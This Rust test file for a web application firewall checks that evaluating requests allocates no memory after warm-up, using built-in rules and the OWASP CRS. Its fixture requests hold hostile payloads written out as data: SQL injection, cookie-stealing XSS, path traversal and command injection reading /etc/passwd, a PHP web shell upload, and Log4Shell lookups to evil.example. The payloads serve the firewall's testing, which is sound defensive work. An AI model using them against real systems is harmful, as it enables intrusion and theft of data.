//! Evaluation allocates nothing once warmed up: a counting global allocator
//! (this file is its own test binary) watches 1,000 evaluations with the
//! built-in rules, and with the OWASP CRS v4 at paranoia 1 and 4 through the
//! SecLang front end (from ../shared/corpus; skipped when it is absent).

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;
use std::path::Path;
use std::sync::Arc;

use rampart::{Config, Phase, Ruleset, Transaction};

/// Counts allocations made by the current thread while `COUNTING` is set, so
/// that the test harness's own threads do not disturb the count.
struct Counting;

thread_local! {
    static COUNTING: Cell<bool> = const { Cell::new(false) };
    static ALLOCATIONS: Cell<u64> = const { Cell::new(0) };
}

fn note() {
    // `try_with`: the thread-locals may be gone while a thread shuts down.
    let _ = COUNTING.try_with(|c| {
        if c.get() {
            let _ = ALLOCATIONS.try_with(|a| a.set(a.get() + 1));
        }
    });
}

// SAFETY: every method forwards to the system allocator with the caller's
// arguments unchanged; counting touches only thread-locals.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        note();
        // SAFETY: forwarded as received.
        unsafe { System.alloc(layout) }
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        note();
        // SAFETY: forwarded as received.
        unsafe { System.alloc_zeroed(layout) }
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        note();
        // SAFETY: forwarded as received.
        unsafe { System.realloc(ptr, layout, new_size) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        // SAFETY: forwarded as received.
        unsafe { System.dealloc(ptr, layout) }
    }
}

#[global_allocator]
static GLOBAL: Counting = Counting;

struct Request {
    method: &'static str,
    uri: &'static str,
    headers: Vec<(&'static str, &'static str)>,
    body: &'static [u8],
}

fn requests() -> Vec<Request> {
    let browser = vec![
        ("Host", "shop.example"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
        ),
        ("Accept", "text/html,application/xhtml+xml"),
        ("Accept-Language", "en-US,en;q=0.9"),
        ("Cookie", "session=abc123; theme=dark; consent=%7B%22ads%22%3Afalse%7D"),
        ("Referer", "https://shop.example/cart"),
    ];
    vec![
        Request { method: "GET", uri: "/search?q=blue+shoes&page=2&sort=price", headers: browser.clone(), body: b"" },
        Request { method: "GET", uri: "/item?id=1%27%20OR%20%271%27%3D%271", headers: browser.clone(), body: b"" },
        Request { method: "GET", uri: "/q?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E&y=..%2F..%2Fetc%2Fpasswd", headers: browser.clone(), body: b"" },
        Request {
            method: "POST",
            uri: "/login",
            headers: vec![("Host", "shop.example"), ("Content-Type", "application/x-www-form-urlencoded")],
            body: b"user=alice&pass=s3cret%21&remember=on",
        },
        Request {
            method: "PUT",
            uri: "/api/v1/orders/42",
            headers: vec![("Host", "api.example"), ("Content-Type", "application/json")],
            body: br#"{"items":[{"sku":"A-1","qty":2},{"sku":"B-7","qty":1,"note":"O'Brien; select a gift box"}],"shipping":{"city":"Zurich","express":true},"coupon":null}"#,
        },
        Request {
            method: "POST",
            uri: "/api/v1/comments",
            headers: vec![("Host", "api.example"), ("Content-Type", "application/json")],
            body: br#"{"body":"<img src=x onerror=alert(document.cookie)>","q":"1 union select password from users","cmd":"; cat /etc/passwd"}"#,
        },
        Request {
            method: "POST",
            uri: "/upload",
            headers: vec![("Host", "files.example"), ("Content-Type", "multipart/form-data; boundary=XyZ")],
            body: b"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nQuarterly report\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"r.php\"\r\nContent-Type: application/octet-stream\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n",
        },
        Request {
            method: "POST",
            uri: "/api/broken",
            headers: vec![("Host", "api.example"), ("Content-Type", "application/json")],
            body: br#"{"a": [1, 2, "#,
        },
        Request {
            method: "GET",
            uri: "/${jndi:ldap://evil.example/a}",
            headers: vec![("Host", "x"), ("Host", "y"), ("User-Agent", "sqlmap/1.7"), ("X-Api", "${${lower:j}ndi:dns://x}")],
            body: b"",
        },
    ]
}

fn run(tx: &mut Transaction, scratch: &mut rampart::Scratch, r: &Request) -> u32 {
    tx.reset();
    tx.set_client("198.51.100.4");
    tx.set_request(r.method, r.uri, "HTTP/1.1");
    for (n, v) in &r.headers {
        tx.add_header(n, v);
    }
    tx.evaluate(Phase::RequestHeaders, scratch);
    // Split the body into chunks, as a proxy delivers it.
    for chunk in r.body.chunks(7) {
        tx.append_body(chunk);
    }
    let v = tx.evaluate(Phase::RequestBody, scratch);
    v.score() + v.match_count()
}

fn extra_requests() -> Vec<Request> {
    vec![
        Request {
            method: "POST",
            uri: "/soap",
            headers: vec![("Host", "x"), ("Content-Type", "text/xml")],
            body: b"<?xml version=\"1.0\"?><e a=\"&lt;script&gt;\"><b>1 union select 2</b></e>",
        },
        Request {
            method: "GET",
            uri: "/a.php.bak?x=%c0%ae%c0%ae/etc/passwd&y=%uff1cscript",
            headers: vec![("Host", "10.0.0.1"), ("Range", "bytes=1-2,3-4,5-6,7-8,9-10,11-12"), ("Accept", "")],
            body: b"",
        },
        Request {
            method: "POST",
            uri: "/x",
            headers: vec![("Host", "x"), ("Content-Type", "text/plain; charset=utf-7")],
            body: b"+ADw-script+AD4-",
        },
    ]
}

/// Warms `ruleset` up on `requests`, then counts the allocations of 1,000
/// evaluations (each followed by an audit line) on this thread.
fn assert_no_allocations(ruleset: &Arc<Ruleset>, requests: &[Request], what: &str) {
    let mut scratch = ruleset.create_scratch();
    let mut tx = Transaction::new(ruleset.clone());
    let mut audit = Vec::with_capacity(1 << 16);
    // Warm up: buffers, regex caches and arenas grow to their working size.
    for _ in 0..3 {
        for r in requests {
            run(&mut tx, &mut scratch, r);
            audit.clear();
            tx.write_audit_json(&mut audit);
        }
    }
    // The counter works: one allocation on this thread is seen.
    COUNTING.with(|c| c.set(true));
    drop(std::hint::black_box(vec![0u8; 16]));
    COUNTING.with(|c| c.set(false));
    assert_eq!(ALLOCATIONS.with(Cell::get), 1, "the counting allocator sees allocations");
    ALLOCATIONS.with(|a| a.set(0));

    let mut checksum = 0u64;
    COUNTING.with(|c| c.set(true));
    for i in 0..1000 {
        let r = &requests[i % requests.len()];
        checksum += u64::from(run(&mut tx, &mut scratch, r));
        audit.clear();
        tx.write_audit_json(&mut audit);
    }
    COUNTING.with(|c| c.set(false));
    let allocations = ALLOCATIONS.with(Cell::get);
    ALLOCATIONS.with(|a| a.set(0));
    assert!(checksum > 0, "the attack requests must have matched ({what})");
    assert_eq!(allocations, 0, "allocations during 1,000 warmed-up evaluations ({what})");
}

#[test]
fn evaluation_allocates_nothing_after_warm_up() {
    let ruleset = Arc::new(Ruleset::default_rules().expect("default rules compile"));
    assert_no_allocations(&ruleset, &requests(), "built-in rules");
}

#[test]
fn seclang_evaluation_allocates_nothing_after_warm_up() {
    let crs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus/crs-v4");
    if !crs.join("rules").is_dir() {
        eprintln!("skipped: ../shared/corpus/crs-v4 not found");
        return;
    }
    let mut requests = requests();
    requests.extend(extra_requests());
    for paranoia in [1, 4] {
        let ruleset = Arc::new(
            Ruleset::builder()
                .configure(Config::new().paranoia(paranoia))
                .seclang(crs.join("crs-setup.conf.example"))
                .seclang(crs.join("rules").join("*.conf"))
                .build()
                .expect("CRS compiles"),
        );
        assert_no_allocations(&ruleset, &requests, &format!("CRS v4 at paranoia {paranoia}"));
    }
}
